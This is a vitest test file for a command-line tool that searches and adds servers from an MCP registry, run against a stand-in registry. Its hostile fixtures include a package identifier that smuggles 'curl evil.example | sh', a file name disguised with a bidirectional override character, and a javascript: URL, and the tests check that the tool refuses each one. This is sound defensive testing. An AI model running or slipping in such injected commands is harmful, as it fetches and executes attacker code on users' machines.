import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { startStandInRegistry, type StandInRegistry } from '../fixtures/discovery/standInRegistry'
import { tempDir } from '../main/services/helpers'
import { cli, stopStrayClis } from './run'

afterEach(stopStrayClis)

let registry: StandInRegistry
beforeAll(async () => {
  registry = await startStandInRegistry()
})
afterAll(async () => {
  await registry.close()
})

/** the CLI on a user-data folder of its own, MCP_REGISTRY_URL pointing at the stand-in */
function app() {
  const userData = tempDir('mcp-cli-discovery-')
  const env = { MCP_STUDIO_USER_DATA: userData, MCP_REGISTRY_URL: registry.url }
  return { userData, run: (...args: string[]) => cli(args, { env }) }
}

describe('registry search', () => {
  it('follows the pages: name, version, what it runs, description; the deleted one is not there', async () => {
    const found = await app().run('registry', 'search', 'time')
    expect(found.code).toBe(0)
    const lines = found.stdout.trim().split('\n')
    expect(lines).toHaveLength(10)
    expect(lines[0]).toBe('io.github.example/time\t2025.1.0\tuvx: uvx mcp-server-time==2025.1.0 --local-timezone <local-timezone>\tTime and time zone conversions')
    expect(lines.at(-1)).toBe('io.github.example/time-tool-9\t1.0.8\tnpx: npx -y time-tool-9@1.0.8\tTime tool number 9')
    expect(found.stdout).not.toContain('time-deleted')
  })

  it('--limit stops early and says there is more; --json gives each entry with its inputs', async () => {
    const few = await app().run('registry', 'search', 'time', '--limit', '5')
    expect(few.stdout.trim().split('\n')).toEqual([expect.any(String), expect.any(String), expect.any(String), expect.any(String), expect.any(String), '… more: raise --limit (now 5)'])
    const json = await app().run('registry', 'search', 'weather', '--json')
    expect(json.code).toBe(0)
    expect(JSON.parse(json.stdout)).toEqual({
      registry: registry.url,
      servers: [
        expect.objectContaining({
          name: 'io.github.example/weather',
          version: '1.2.0',
          runs: 'npx',
          namespace: 'io.github.example',
          repositoryUrl: 'https://git.example.com/example/weather',
          inputs: [expect.objectContaining({ key: 'WEATHER_API_KEY', required: true, secret: true }), expect.objectContaining({ key: 'WEATHER_UNITS' }), expect.objectContaining({ key: 'city' })]
        })
      ]
    })
  })

  it('lists hostile entries as refused, their hidden characters shown as escapes', async () => {
    const found = await app().run('registry', 'search', 'evil')
    expect(found.stdout).toContain('io.github.evil/shell\t1.0.0\tREFUSED\tpackages[0].identifier "x; curl evil.example | sh" is not a npm package name')
    expect(found.stdout).toContain('io.github.evil/safe\\u202etxt.exe\t1.0.0\tREFUSED\tname contains a bidirectional-text control character')
    expect(found.stdout).not.toContain('\u202e')
  })

  it('says to set a registry when none is, and when it cannot be reached', async () => {
    const none = await cli(['registry', 'search', 'time'], { env: { MCP_STUDIO_USER_DATA: tempDir('mcp-cli-discovery-'), MCP_REGISTRY_URL: '' } })
    expect(none.code).toBe(2)
    expect(none.stderr).toContain('no MCP Registry is set: pass --registry URL, set MCP_REGISTRY_URL')
    const gone = await startStandInRegistry()
    await gone.close()
    const offline = await app().run('registry', 'search', 'time', '--registry', gone.url)
    expect(offline.code).toBe(1)
    expect(offline.stderr.trim()).toBe(`error: could not reach ${gone.url}: you may be offline, or the address is wrong`)
  })
})

describe('registry add', () => {
  it('adds the server pinned, approved, its secret kept out of the output', async () => {
    const { run, userData } = app()
    const added = await run('registry', 'add', 'io.github.example/weather', '--input', 'WEATHER_API_KEY=sk-weather-cli-42')
    expect(added.code).toBe(0)
    expect(added.stdout).toBe('added io.github.example/weather 1.2.0 (approved):\n  npx -y --prefer-offline @example/weather-mcp@1.2.0 --log-level info\n')
    const servers = await run('servers', '--json')
    expect(JSON.parse(servers.stdout)).toEqual([expect.objectContaining({ name: 'io.github.example/weather', command: 'npx', args: ['-y', '--prefer-offline', '@example/weather-mcp@1.2.0', '--log-level', 'info'], isActive: true, approved: true })])
    expect(servers.stdout).not.toContain('sk-weather-cli-42')
    expect(readFileSync(join(userData, 'mcp', 'servers.json'), 'utf8')).toContain('sk-weather-cli-42')
  })

  it('a missing required input: exit 2 naming it, nothing added', async () => {
    const { run } = app()
    const missing = await run('registry', 'add', 'com.example/notes')
    expect(missing.code).toBe(2)
    expect(missing.stderr.trim()).toBe('error: nothing was added: com.example/notes needs a value for "token"; pass --input token=VALUE')
    expect(JSON.parse((await run('servers', '--json')).stdout)).toEqual([])
  })

  it('a remote with its header, and a hostile entry refused with the field named', async () => {
    const { run } = app()
    const remote = await run('registry', 'add', 'com.example/notes', '--input', 'token=notes-token-123', '--json')
    expect(JSON.parse(remote.stdout)).toEqual({ added: 'com.example/notes', version: '3.0.0', runs: 'remote', target: 'Streamable HTTP https://notes.example.com/mcp', approved: true })
    const noSuchVersion = await run('registry', 'add', 'io.github.example/time', '--version', '9.9.9')
    expect(noSuchVersion.stderr.trim()).toBe(`error: ${registry.url} has no version 9.9.9 of "io.github.example/time"`)
    const hostile = await run('registry', 'add', 'io.github.evil/script-url')
    expect(hostile.code).toBe(1)
    expect(hostile.stderr.trim()).toBe('error: io.github.evil/script-url was refused: remotes[0].url must be an http(s) URL, not javascript:; nothing was added')
    const servers = JSON.parse((await run('servers', '--json')).stdout) as { name: string }[]
    expect(servers.map((s) => s.name)).toEqual(['com.example/notes'])
  })
})
